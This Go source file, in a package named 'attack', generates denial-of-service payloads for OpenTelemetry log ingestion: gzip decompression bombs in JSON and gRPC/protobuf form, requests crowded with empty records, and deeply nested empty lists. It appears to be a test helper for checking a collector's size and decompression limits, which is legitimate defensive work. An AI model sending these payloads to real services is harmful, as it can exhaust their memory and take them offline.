package attack

import (
	"bytes"
	"encoding/binary"
	"errors"
	"io"

	"github.com/klauspost/compress/gzip"
)

// Request is a gzipped request of telemetry in JSON that unpacks to size bytes:
// one log record with a long text.
func Request(size int64) ([]byte, error) {
	const before = `{"resourceLogs":[{"resource":{"attributes":[{"key":"service.name","value":{"stringValue":"claude-code"}}]},` +
		`"scopeLogs":[{"scope":{"name":"s"},"logRecords":[{"timeUnixNano":"1754006400000000000","body":{"stringValue":"`
	const after = `"}}]}]}]}`
	var b bytes.Buffer
	z, err := gzip.NewWriterLevel(&b, gzip.BestCompression)
	if err != nil {
		return nil, err
	}
	_, begin := io.WriteString(z, before)
	middle := repeat(z, "a", size-int64(len(before)+len(after)))
	_, end := io.WriteString(z, after)
	err = errors.Join(begin, middle, end, z.Close())
	return b.Bytes(), err
}

// Message is a gzipped message of gRPC that unpacks to size bytes: telemetry in protobuf
// with an unknown field, framed.
func Message(size int64) ([]byte, error) {
	var b bytes.Buffer
	b.Write([]byte{1, 0, 0, 0, 0}) // compressed, and its length
	z := gzip.NewWriter(&b)
	const field = 15<<3 | 2 // of bytes
	_, begin := z.Write(binary.AppendUvarint([]byte{field}, uint64(size-16)))
	middle := repeat(z, "\x00", size-16)
	if err := errors.Join(begin, middle, z.Close()); err != nil {
		return nil, err
	}
	message := b.Bytes()
	binary.BigEndian.PutUint32(message[1:], uint32(len(message)-5))
	return message, nil
}

// CrowdedRequest is a packed request that holds as many records as fit into a size.
func CrowdedRequest(size int64) ([]byte, error) {
	const before = `{"resourceLogs":[{"scopeLogs":[{"logRecords":[{}`
	const after = `]}]}]}`
	var b bytes.Buffer
	z, err := gzip.NewWriterLevel(&b, gzip.BestCompression)
	if err != nil {
		return nil, err
	}
	_, begin := io.WriteString(z, before)
	rest := size - int64(len(before)+len(after))
	middle := repeat(z, ",{}", rest-rest%3)
	_, end := io.WriteString(z, after)
	err = errors.Join(begin, middle, end, z.Close())
	return b.Bytes(), err
}

// Lists is a framed message of gRPC, not packed: telemetry in protobuf with one record, whose body is a
// list of so many lists without anything in them.
func Lists(count int) []byte {
	value := bytes.Repeat([]byte{1<<3 | 2, 2, 5<<3 | 2, 0}, count) // values: { array_value: {} }
	for _, number := range []byte{5, 5, 2, 2, 1} {                 // array_value, body, log_records, scope_logs, resource_logs
		value = append(binary.AppendUvarint([]byte{number<<3 | 2}, uint64(len(value))), value...)
	}
	return append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(value))), value...)
}
